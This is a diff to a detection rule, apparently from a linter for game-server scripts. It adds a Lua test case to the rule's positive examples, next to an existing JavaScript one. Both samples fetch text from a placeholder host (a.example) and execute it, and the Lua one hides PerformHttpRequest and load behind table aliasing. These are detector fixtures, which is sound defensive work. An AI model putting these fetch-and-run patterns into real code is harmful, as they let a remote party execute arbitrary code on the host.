@@ -33,6 +33,13 @@ export const runsDownloadedCode = defineRule({
   },
   examples: {
     found: [
+      lua(`local copy = {}
+for name, value in pairs({ ask = PerformHttpRequest, run = load }) do
+  if not copy[name] then copy[name] = value end
+end
+copy.ask('https://a.example', function(_, body)
+^ copy.run(body)()
+end)`),
       js(
         `const host = window.GetParentResourceName ? GetParentResourceName() : 'a.example'
 ^fetch(\`https://\${host}/\${name}\`).then((answer) => answer.text()).then(eval)`,
